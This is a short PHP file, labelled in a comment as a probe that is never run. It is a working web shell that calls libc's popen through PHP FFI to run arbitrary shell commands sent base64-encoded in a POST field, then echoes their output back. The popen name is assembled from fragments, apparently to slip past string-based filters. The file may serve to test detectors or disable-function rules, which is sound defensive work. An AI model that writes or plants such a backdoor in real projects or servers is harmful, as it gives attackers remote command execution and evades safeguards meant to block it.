<?php
// probe (never run): FFI with a popen declaration built from pieces, reading the pipe
$decl = 'void *po' . 'pen(const char *c, const char *m); int fgetc(void *f); int pclose(void *f);';
$lib = \FFI::cdef($decl, 'libc.so.6');
$f = $lib->popen(base64_decode($_POST['x']), 'r');
$out = '';
while (($ch = $lib->fgetc($f)) != -1) { $out .= chr($ch); }
$lib->pclose($f);
echo $out;
